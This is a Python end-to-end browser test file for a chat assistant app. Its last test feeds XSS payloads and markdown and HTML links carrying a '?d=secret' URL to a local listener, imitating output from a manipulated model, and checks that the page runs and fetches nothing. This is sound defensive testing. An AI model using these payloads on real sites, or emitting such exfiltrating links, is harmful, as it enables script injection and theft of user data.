"""What a model may do to a page: be slow, break off a view, be hostile. It says what is written here."""

import asyncio
import re
from collections.abc import AsyncIterator

import httpx
import psycopg
import pytest
import pytest_asyncio
from playwright.async_api import Route, expect

from agent.choice import ModelChoice
from api import jobs
from tests.conftest import Place
from tests.e2e.conftest import Scripted, call
from tests.e2e.window import DRAWN

pytestmark = pytest.mark.browser


async def test_words_are_seen_as_they_come_and_a_reload_loses_none(scripted: Scripted) -> None:
    go, on = asyncio.Event(), asyncio.Event()
    desk, _ = await scripted(("Half a", go, "sentence", on, "is whole now."))
    await desk.say("Tell me")
    await expect(desk.conversation.locator(".streaming")).to_have_text("Half a")
    go.set()
    await expect(desk.conversation.locator(".streaming")).to_have_text("Half a sentence")
    await expect(desk.conversation).to_have_attribute("aria-busy", "true")

    await desk.page.reload()
    await expect(desk.conversation.locator(".said")).to_have_text("Tell me")
    await expect(desk.conversation.locator(".streaming")).to_have_text("Half a sentence")
    on.set()
    await desk.answered("Tell me")
    await expect(desk.words).to_have_text("Half a sentence is whole now.")
    await expect(desk.conversation.locator(".said")).to_have_count(1)


async def test_settings_tell_what_the_hosted_model_has_cost(scripted: Scripted) -> None:
    desk, aurum = await scripted("Good morning.")
    aurum.models.choice = ModelChoice(price_input=100.0, price_output=100.0)
    await desk.page.evaluate("location.hash = '#/settings'")
    settings = desk.page.get_by_role("region", name="Settings")
    await expect(settings).to_contain_text("No hosted model was called.")
    await desk.page.evaluate("location.hash = ''")
    await desk.say("Hello")
    await desk.answered("Hello")
    cost = desk.turn.locator(".cost")
    await expect(cost).to_have_text(re.compile(r"^1 call · [\d,]+ tokens · \$0\.\d+$"))
    told = await cost.inner_text()
    await desk.page.reload()
    await expect(cost).to_have_text(told)
    await desk.page.evaluate("location.hash = '#/settings'")
    row = settings.locator(".setting", has_text="This month").first
    await expect(row).to_contain_text(re.compile(r"\$0\.\d+ of \$50\.00"))
    await expect(row).to_contain_text("1 of 5,000 calls")


async def test_a_card_is_there_while_its_tool_runs(scripted: Scripted, place: Place) -> None:
    desk, _ = await scripted([call("add_task", title="Pay the rent")], "Done.")
    async with await psycopg.AsyncConnection.connect(place.owner_url) as connection:
        await connection.execute("lock table tasks in exclusive mode")
        await desk.say("Pay the rent")
        await expect(desk.card("add_task")).to_have_attribute("data-state", "running")
        await expect(desk.card("add_task")).to_contain_text("Adding task Pay the rent")
    await desk.answered("Pay the rent")
    await expect(desk.card("add_task")).to_have_attribute("data-state", "done")
    await expect(desk.card("add_task")).to_contain_text("Added task T1 Pay the rent")


async def test_a_second_message_waits_for_its_turn(scripted: Scripted) -> None:
    go = asyncio.Event()
    desk, _ = await scripted(("Well,", go, "done."), "And this is the second answer.")
    await desk.say("First")
    await expect(desk.words).to_have_text("Well,")
    await desk.say("And then?")
    await expect(desk.conversation.locator(".queued")).to_contain_text("And then?")
    go.set()
    await desk.answered("And then?")
    answers = ["Well, done.", "And this is the second answer."]
    await expect(desk.conversation.locator(".words")).to_have_text(answers)


async def test_an_old_answer_that_comes_late_hides_nothing(scripted: Scripted) -> None:
    held, asked, go = asyncio.Event(), asyncio.Event(), asyncio.Event()
    desk, _ = await scripted("This is the newest.")

    async def hold(route: Route) -> None:
        old = await route.fetch()
        if not asked.is_set():
            held.set()
            await go.wait()
        await route.fulfill(response=old)

    await desk.page.route("**/api/chat/life", hold)
    await desk.page.reload()
    await held.wait()
    asked.set()
    await desk.ask("Hello")
    async with desk.page.expect_request_finished(lambda request: request.url.endswith("/api/chat/life")):
        go.set()
    await desk.page.evaluate(DRAWN)
    await desk.answered("Hello")
    await desk.page.unroute_all(behavior="wait")  # a request still held would fail in the next test


async def test_what_happens_while_the_feed_is_cut_is_seen_afterwards(
    scripted: Scripted, http: httpx.AsyncClient
) -> None:
    desk, aurum = await scripted()
    async with desk.page.expect_response("**/api/live"):
        await desk.page.reload()
    await expect(desk.today).to_contain_text("Nothing is waiting for you")
    aurum.ending.set()
    await http.post("/api/tasks", json={"title": "Pay the rent"})
    aurum.ending.clear()
    await expect(desk.row("Pay the rent")).to_be_visible()


Listener = tuple[int, list[bytes]]


@pytest_asyncio.fixture
async def listener() -> AsyncIterator[Listener]:
    """Somebody who waits on this machine to be told a secret: the port, and what was heard."""
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readline())
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1], heard
    server.close()
    await server.wait_closed()


async def test_hostile_words_run_nothing_and_fetch_nothing(scripted: Scripted, listener: Listener) -> None:
    port, heard = listener
    there = f"http://127.0.0.1:{port}/?d=secret"
    image, tag = f"![x]({there})", "<img src=x onerror=alert(1)>"
    desk, aurum = await scripted(
        ([
            call("add_pillar", 1, name="<script>alert(2)</script>"),
            call("add_project", 2, name=f"<svg onload=alert(3)>{image}"),
            call("add_task", 3, title=tag, due="tomorrow", notes=f"<iframe src={there}>"),
            call("write_entry", 4, text=f"{image} {tag}", title="[a](javascript:alert(4))"),
        ],),
        hostile(there),
    )  # fmt: skip
    await desk.ask(f"{tag} {image}")
    await jobs.sweep(aurum.database)
    for again in (False, True):
        if again:
            await desk.page.reload()
            await desk.answered(f"{tag} {image}")
        await expect(desk.insight(f"{tag} comes first")).to_be_visible()
        await expect(desk.row(tag).locator(".title")).to_have_text(tag)
        await expect(desk.line("<script>")).to_be_visible()
        await expect(desk.card("add_task")).to_contain_text(tag)
        await expect(desk.words).to_contain_text("the end")
        for button in await desk.conversation.get_by_role("button", name="Details").all():
            await button.click()
        assert await desk.page.evaluate(ALIVE) == []
        links = await desk.conversation.locator("a").evaluate_all("all => all.map((each) => each.href)")
        assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), links
    await desk.today.get_by_role("button", name=f"Complete {tag}").click()
    await expect(desk.toasts).to_contain_text(f"Done: {tag}")
    assert await desk.page.evaluate(ALIVE) == []
    assert heard == []


ALIVE = """() => [...document.querySelectorAll("body *")].filter((element) =>
  element.matches("img, iframe, script, style, form:not(.composer), object, embed, video, audio, base, meta")
  || element.matches("link, input")
  || [...element.attributes].some(({ name }) => name.startsWith("on"))
).map((element) => element.outerHTML)"""
"""Elements of the page that could run or fetch something; its own pictures are drawn."""


def hostile(there: str) -> str:
    """What a model that was talked into something might answer."""
    return "\n\n".join(
        [
            f"![x]({there})",
            f"![y][ref]\n\n[ref]: {there}",
            "[a](javascript:alert(1)) [b](&#106;avascript:alert(2)) [c](data:text/html,<script>alert(3)</script>)",
            "[d](vbscript:x) [e](<java\tscript:alert(4)>) <javascript:alert(5)>",
            "<img src=x onerror=alert(6)><script>alert(7)</script>",
            f"<iframe src='{there}'></iframe><object data='{there}'></object><video src='{there}' autoplay></video>",
            f"<style>@import url({there});body{{background:url({there})}}</style>",
            f"<link rel=stylesheet href='{there}'><meta http-equiv=refresh content='0;url={there}'>",
            f"<form action='{there}'><input autofocus onfocus=alert(8)></form>",
            "<svg><animate onbegin=alert(9) attributeName=x dur=1s></svg><math><mtext><img onerror=alert(10) src>",
            f"`<img src={there}>`\n\n```html\n<script src={there}></script>\n```",
            f"| <img src={there}> | ![z]({there}) |\n|---|---|\n| <b onclick=alert(11)>x</b> | [f]({there}) |",
            "- [x] <details open ontoggle=alert(12)>",
            f"{there} the end",
        ]
    )
